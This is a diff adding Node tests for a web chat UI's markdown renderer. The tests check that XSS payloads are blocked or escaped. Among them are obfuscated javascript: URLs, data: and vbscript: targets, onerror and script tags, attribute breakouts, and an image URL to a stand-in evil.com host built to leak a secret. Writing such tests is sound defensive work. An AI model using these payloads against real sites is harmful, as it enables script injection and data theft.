@@ -0,0 +1,124 @@
+// Injection tests for the web UI markdown renderer (src/Sharpbot/wwwroot/js/markdown.js).
+// Run with: node --test tests/web
+//
+// markdown.js is a classic browser script defining a global `Markdown`; it is loaded into
+// a fresh VM context so the tests see exactly what the page sees.
+
+const { test } = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('node:fs');
+const path = require('node:path');
+const vm = require('node:vm');
+
+const source = fs.readFileSync(path.join(__dirname, '../../src/Sharpbot/wwwroot/js/markdown.js'), 'utf8');
+const Markdown = vm.runInNewContext(`${source}\nMarkdown;`, {});
+
+const render = md => Markdown.render(md);
+
+/** The href/src attributes of every link and image in the rendered HTML. */
+function targets(html) {
+    return [...html.matchAll(/<(?:a|img)\b[^>]*?\b(?:href|src)="([^"]*)"/g)].map(m => m[1]);
+}
+
+function assertBlocked(md) {
+    const html = render(md);
+    assert.deepEqual(targets(html), [], `expected no link in ${html}`);
+    assert.match(html, /class="link-blocked"/);
+}
+
+test('javascript: links are blocked', () => {
+    assertBlocked('[x](javascript:alert(1))');
+});
+
+test('scheme checks ignore case', () => {
+    assertBlocked('[x](JavaScript:alert(1))');
+    assertBlocked('[x](JAVASCRIPT:alert(1))');
+});
+
+test('entity-encoded schemes are blocked', () => {
+    assertBlocked('[x](&#106;avascript:alert(1))');
+    assertBlocked('[x](&#x6A;avascript:alert(1))');
+    assertBlocked('[x](javascript&#58;alert(1))');
+    assertBlocked('[x](java&#x09;script:alert(1))');
+});
+
+test('control characters inside the scheme are blocked', () => {
+    assertBlocked('[x](java\u0001script:alert(1))');
+    assertBlocked('[x](java&#x0A;script:alert(1))');
+    assertBlocked('[x](\u0000javascript:alert(1))');
+    assertBlocked('[x](java\u007fscript:alert(1))');
+});
+
+test('javascript: autolinks are blocked', () => {
+    assertBlocked('<javascript:alert(1)>');
+    assertBlocked('<JAVASCRIPT:alert(1)>');
+});
+
+test('data: and vbscript: targets are blocked', () => {
+    assertBlocked('[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)');
+    assertBlocked('[x](vbscript:msgbox(1))');
+    assertBlocked('![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)');
+    assertBlocked('![x](vbscript:msgbox(1))');
+    assertBlocked('![x](javascript:alert(1))');
+});
+
+test('images only load over http(s)', () => {
+    assertBlocked('![x](mailto:a@example.com)');
+    assert.match(render('![x](https://example.com/a.png)'), /data-image-src="https:\/\/example\.com\/a\.png"/);
+});
+
+test('remote images are click-to-load placeholders, not <img>', () => {
+    for (const md of ['![x](https://evil.com/leak?d=secret)', '![x](http://evil.com/a.png)', '![x](//evil.com/a.png)', String.raw`![x](/\evil.com/a.png)`]) {
+        const html = render(md);
+        assert.doesNotMatch(html, /<img/, md);
+        assert.deepEqual(targets(html), [], md);
+        assert.match(html, /<button type="button" class="image-placeholder" data-image-src="(https?:)?\/\/evil\.com\//, md);
+    }
+});
+
+test('same-origin images load directly', () => {
+    assert.deepEqual(targets(render('![chart](/api/files/chart.png "Chart")')), ['/api/files/chart.png']);
+});
+
+test('leading backslashes are read as slashes', () => {
+    for (const md of [String.raw`[x](/\evil.com)`, String.raw`[x](\\\\evil.com)`, String.raw`[x](\\/evil.com)`]) {
+        const html = render(md);
+        assert.deepEqual(targets(html), ['//evil.com'], md);
+        assert.match(html, /title="\/\/evil\.com"/);
+        assert.match(html, /target="_blank" rel="noopener noreferrer"/);
+    }
+});
+
+test('http(s) with odd slashes is normalized to the host it opens', () => {
+    for (const md of [String.raw`[x](https:\\evil.com)`, '[x](https:/evil.com)', '[x](https:evil.com)', '[x](HTTPS:///evil.com)']) {
+        const html = render(md);
+        assert.match(targets(html)[0], /^https:\/\/evil\.com$/i, md);
+        assert.match(html, /target="_blank"/);
+    }
+});
+
+test('allowed links keep their destination and show it on hover', () => {
+    const html = render('[docs](https://example.com/a?b=1 "Docs")');
+    assert.deepEqual(targets(html), ['https://example.com/a?b=1']);
+    assert.match(html, /title="Docs\nhttps:\/\/example\.com\/a\?b=1"/);
+    assert.deepEqual(targets(render('[m](mailto:a@example.com)')), ['mailto:a@example.com']);
+    assert.deepEqual(targets(render('[r](docs/readme.md)')), ['docs/readme.md']);
+    assert.deepEqual(targets(render('[r](/api/status)')), ['/api/status']);
+});
+
+test('relative links open in the same tab', () => {
+    assert.doesNotMatch(render('[r](/api/status)'), /target=/);
+});
+
+test('raw HTML is rendered as text', () => {
+    const html = render('<img src=x onerror=alert(1)> <script>alert(1)</script>');
+    assert.doesNotMatch(html, /<img|<script/);
+    assert.match(html, /&lt;script&gt;/);
+});
+
+test('attribute breakouts in destinations and titles are escaped', () => {
+    const html = render('[x](https://example.com/"onmouseover="alert(1) "a\\"b")');
+    assert.doesNotMatch(html, /" ?onmouseover=/);
+    const img = render('![a" onerror="alert(1)](https://example.com/a.png)');
+    assert.doesNotMatch(img, /" onerror=/);
+});